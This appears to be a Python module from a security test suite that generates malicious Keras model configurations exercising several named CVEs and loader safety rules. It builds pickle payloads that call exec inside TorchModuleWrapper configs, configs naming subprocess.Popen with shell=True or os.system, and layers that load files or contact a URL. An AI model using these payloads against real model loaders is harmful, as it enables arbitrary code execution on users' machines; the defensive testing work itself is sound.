"""Classes that no config may name, and things that stand where they must not.

CVE-2025-49655 and CVE-2026-12484 (TorchModuleWrapper), CVE-2026-1462 (TFSMLayer), and
rule 2: what may stand in a field depends on the field.
"""

from __future__ import annotations

import base64
import pickle
from typing import TYPE_CHECKING

from attack.case import Case, Gadget, expand, placed
from attack.configs import (
    call,
    compiled,
    dense,
    function,
    functional,
    layer,
    obj,
    optimizer,
    sequential,
    tensor,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    from attack.stage import Stage

FAMILY = "classes"
ALL = ("keras", "h5", "json", "yaml", "tfjs", "dict")


class _Runs:
    """Pickles to a call of `exec`."""

    def __init__(self, statement: str) -> None:
        self.statement = statement

    def __reduce__(self) -> object:
        return exec, (self.statement,)


def pickled(stage: Stage) -> bytes:
    """A pickle that writes the marker when loaded."""
    return pickle.dumps(_Runs(stage.statement))


def torch_wrapper(module: str | None, *, shape: str = "bytes") -> Callable[[Stage], object]:
    """A TorchModuleWrapper whose `module` is a pickle; in the encodings that Keras has."""

    def make(stage: Stage) -> object:
        blob: object = base64.b64encode(pickled(stage)).decode()
        if shape == "bytes":
            blob = {"class_name": "__bytes__", "config": {"value": blob}}
        elif shape == "list":
            blob = list(pickled(stage))
        config = {"name": "victim", "module": blob, "output_shape": None}
        return sequential(obj(module, "TorchModuleWrapper", config))

    return make


def module_less(class_name: str, **config: object) -> Callable[[Stage], object]:
    """A layer without `module`: the legacy resolver is asked."""
    return lambda _stage: sequential({"class_name": class_name, "config": config})


def saved_model(module: str, path: Callable[[Stage], str]) -> Callable[[Stage], object]:
    """CVE-2026-1462: a layer that loads a SavedModel from a path in the config."""

    def make(stage: Stage) -> object:
        config = {"name": "victim", "filepath": path(stage), "call_endpoint": "serve"}
        return sequential(obj(module, "TFSMLayer", config))

    return make


#: Public classes of Keras that read, write, connect or run, with the arguments that do it.
EFFECTS: dict[str, tuple[str, str, Callable[[Stage], dict[str, object]]]] = {
    "csv-logger": ("keras.callbacks", "CSVLogger", lambda s: {"filename": str(s.marker)}),
    "checkpoint": ("keras.callbacks", "ModelCheckpoint", lambda s: {"filepath": str(s.marker)}),
    "backup": ("keras.callbacks", "BackupAndRestore", lambda s: {"backup_dir": str(s.root)}),
    "tensorboard": ("keras.callbacks", "TensorBoard", lambda s: {"log_dir": str(s.root)}),
    "monitor": ("keras.callbacks", "RemoteMonitor", lambda s: {"root": s.url}),
    "callback": ("keras.callbacks", "LambdaCallback", lambda _s: {"on_train_begin": "exec"}),
    "editor": ("keras.saving", "KerasFileEditor", lambda s: {"filepath": str(s.bait())}),
    "export": ("keras.export", "ExportArchive", lambda _s: {}),
    "dataset": ("keras.utils", "PyDataset", lambda _s: {"workers": 4}),
    "sequence": ("keras.utils", "Sequence", lambda _s: {"workers": 4}),
    "scope": ("keras.utils", "CustomObjectScope", lambda _s: {"custom_objects": {"a": "b"}}),
    "progress": ("keras.utils", "Progbar", lambda _s: {"target": 1}),
    "config": ("keras.utils", "Config", lambda _s: {"a": 1}),
    "mesh": ("keras.distribution", "ModelParallel", lambda _s: {}),
    "jax-layer": ("keras.layers", "JaxLayer", lambda _s: {"call_fn": function("os", "system")}),
    "flax-layer": ("keras.layers", "FlaxLayer", lambda _s: {"module": "x", "method": "exec"}),
    "input-spec": ("keras.layers", "InputSpec", lambda _s: {"shape": [1]}),
    "orbax": ("keras.callbacks", "OrbaxCheckpoint", lambda s: {"directory": str(s.root)}),
    "source-store": (
        "keras.src.saving.saving_lib",
        "DiskIOStore",
        lambda s: {"root_path": str(s.root)},
    ),
    "source-h5": (
        "keras.src.saving.saving_lib",
        "H5IOStore",
        lambda s: {"root_path": str(s.bait())},
    ),
    "source-scope": (
        "keras.src.saving.serialization_lib",
        "SafeModeScope",
        lambda _s: {"safe_mode": False},
    ),
    "trainer": ("keras.src.trainers.trainer", "Trainer", lambda _s: {}),
    "popen": ("subprocess", "Popen", lambda s: {"args": s.command, "shell": True}),
    "path": ("pathlib", "Path", lambda _s: {}),
    "stranger": ("acme.layers", "Stranger", lambda _s: {"name": "s"}),
    "stranger-main": ("__main__", "Stranger", lambda _s: {"name": "s"}),
    "hub": ("keras_hub.models", "BertBackbone", lambda _s: {"name": "s"}),
    "nlp": ("keras_nlp.src.models.backbone", "Backbone", lambda _s: {"name": "s"}),
    "cv": ("keras_cv.layers", "Augmenter", lambda _s: {"layers": []}),
}


def effect(name: str) -> Callable[[Stage], object]:
    """One of EFFECTS as an object."""

    def make(stage: Stage) -> object:
        module, class_name, config = EFFECTS[name]
        return obj(module, class_name, config(stage), class_name)

    return make


# An honest object of Keras, by what it is ...
HONEST: dict[str, Callable[[], object]] = {
    "layer": dense,
    "model": lambda: sequential(dense()),
    "operation": lambda: obj("keras.src.ops.numpy", "Add", {"name": "add"}),
    "initializer": lambda: obj("keras.initializers", "Zeros", {}),
    "regularizer": lambda: obj("keras.regularizers", "L2", {"l2": 0.1}),
    "constraint": lambda: obj("keras.constraints", "NonNeg", {}),
    "activation": lambda: function("builtins", "relu"),
    "loss": lambda: obj("keras.losses", "MeanSquaredError", {"name": "m", "reduction": "sum"}),
    "metric": lambda: obj("keras.metrics", "Precision", {"name": "p"}),
    "optimizer": optimizer,
    "schedule": lambda: obj(
        "keras.optimizers.schedules",
        "ExponentialDecay",
        {"initial_learning_rate": 0.1, "decay_steps": 10, "decay_rate": 0.9},
    ),
    "policy": lambda: obj("keras", "DTypePolicy", {"name": "float32"}),
    "quantizer": lambda: obj("keras.quantizers", "AbsMaxQuantizer", {"axis": 0}),
    "callback": lambda: obj("keras.callbacks", "TerminateOnNaN", {}),
}

# ... and slots where it has no business. (A layer may stand in an activation's slot, a loss
# among the metrics, an operation in the graph: those pairs are not here.)
WRONG: dict[str, str] = {
    "graph-node": "initializer regularizer activation loss metric optimizer schedule policy callback",
    "sequential-layer": "initializer constraint activation loss metric optimizer policy callback",
    "activation": "initializer regularizer loss metric optimizer schedule policy callback model",
    "kernel-initializer": "layer model regularizer activation loss metric optimizer policy operation",
    "regularizer": "layer initializer constraint activation loss metric optimizer callback",
    "constraint": "layer initializer regularizer activation loss metric optimizer operation",
    "units": "layer initializer activation optimizer schedule",
    "dtype": "layer initializer activation optimizer loss callback",
    "time-distributed": "initializer activation optimizer metric policy callback",
    "backward-layer": "initializer activation optimizer metric policy",
    "rnn-cell": "initializer activation optimizer metric callback",
    "loss": "layer model initializer optimizer schedule callback policy",
    "metric": "layer model initializer optimizer schedule callback policy",
    "optimizer": "layer model initializer loss metric schedule callback policy activation",
    "inner-optimizer": "layer initializer loss metric schedule callback",
    "learning-rate": "layer initializer loss metric optimizer callback activation",
    "loss-fn": "layer model optimizer callback initializer",
    "metric-fn": "layer model optimizer callback initializer",
    "initializer-seed": "layer optimizer initializer activation",
    "call-args": "layer model optimizer activation initializer",
    "call-kwargs": "layer model optimizer activation initializer",
    "vocabulary": "layer optimizer activation initializer",
    "unknown-argument": "optimizer callback model",
    "policy-map": "layer optimizer activation",
}


def honest(kind: str) -> Callable[[Stage], object]:
    """An honest object, as a value."""
    return lambda _stage: HONEST[kind]()


def class_as_function(stage: Stage) -> object:
    """`class_name: function` that names a class."""
    return functional({**function("keras.layers", "Dense"), "inbound_nodes": [call(tensor())]})


def function_as_layer(stage: Stage) -> object:
    """A layer entry that names a function as if it were a class."""
    return functional(obj("keras.utils", "get_file", {"fname": "x", "origin": stage.url}))


def spoofed_model(stage: Stage) -> object:
    """A root that is a whole saved model of something else."""
    return {**compiled(), "module": "acme.models", "class_name": "Model"}


def typespec(module: str, name: str) -> Callable[[Stage], object]:
    """`__typespec__` names a class that Keras resolves and calls."""

    def make(stage: Stage) -> object:
        config = {"spec_name": name, "module": module, "config": [stage.command]}
        spec = {"class_name": "__typespec__", **config, "config": config, "registered_name": None}
        return functional({**dense(), "inbound_nodes": [call(tensor(), spec)]})

    return make


TORCH = {
    "layers": "keras.layers",
    "src": "keras.src.utils.torch_utils",
    "tf-keras": "tf_keras.layers",
    "keras-tf-keras": "keras._tf_keras.keras.layers",
    "none": None,
}

GADGETS = [
    *(
        Gadget(
            f"torch-{name}-{shape}", "CVE-2025-49655", FAMILY, torch_wrapper(module, shape=shape)
        )
        for name, module in TORCH.items()
        for shape in ("bytes", "base64", "list")
    ),
    Gadget("torch-all", "CVE-2025-49655", FAMILY, torch_wrapper("keras.layers"), formats=ALL),
    Gadget(
        "torch-no-module-key",
        "CVE-2026-12484",
        FAMILY,
        lambda s: sequential(
            {"class_name": "TorchModuleWrapper", "config": {"module": torch_blob(s)}}
        ),
        formats=ALL,
    ),
    placed(
        "torch",
        "bare",
        "CVE-2026-12484",
        FAMILY,
        lambda s: obj("keras.layers", "TorchModuleWrapper", {"module": torch_blob(s)}),
    ),
    *(
        Gadget(f"tfsm-{name}-{module}", "CVE-2026-1462", FAMILY, saved_model(module, path))
        for module in ("keras.layers", "keras.src.export.tfsm_layer", "tf_keras.layers")
        for name, path in (
            ("path", lambda s: str(s.bait("saved_model.pb").parent)),
            ("url", lambda s: s.url),
            ("relative", lambda _s: "assets/saved_model"),
        )
    ),
    Gadget(
        "tfsm-no-module",
        "CVE-2026-1462",
        FAMILY,
        module_less("TFSMLayer", filepath="x"),
        formats=ALL,
    ),
    *(
        placed(f"effect-{name}", slot, "rule-1", FAMILY, effect(name))
        for name in EFFECTS
        for slot in ("sequential-layer", "metric", "bare")
        # InputSpec and Config build nothing and open nothing; they are wrong in a slot only.
        if slot != "bare" or name not in ("input-spec", "config")
    ),
    *(
        placed(f"{kind}-misplaced", slot, "rule-2", FAMILY, honest(kind))
        for slot, kinds in WRONG.items()
        for kind in kinds.split()
    ),
    Gadget("class-as-function", "rule-2", FAMILY, class_as_function, "/config/layers/1"),
    Gadget("function-as-layer", "rule-2", FAMILY, function_as_layer, "/config/layers/1"),
    Gadget("spoofed-model", "rule-1", FAMILY, spoofed_model),
    Gadget("typespec-os", "rule-1", FAMILY, typespec("os", "system")),
    Gadget("typespec-popen", "rule-1", FAMILY, typespec("subprocess", "Popen")),
    Gadget("typespec-keras", "rule-2", FAMILY, typespec("keras.layers", "Lambda")),
    Gadget(
        "layer-layer",
        "rule-2",
        FAMILY,
        lambda _s: sequential(layer("TimeDistributed", layer=obj("keras", "Variable", {}))),
    ),
]


def torch_blob(stage: Stage) -> str:
    """The pickle as base64."""
    return base64.b64encode(pickled(stage)).decode()


CASES: list[Case] = expand(GADGETS)
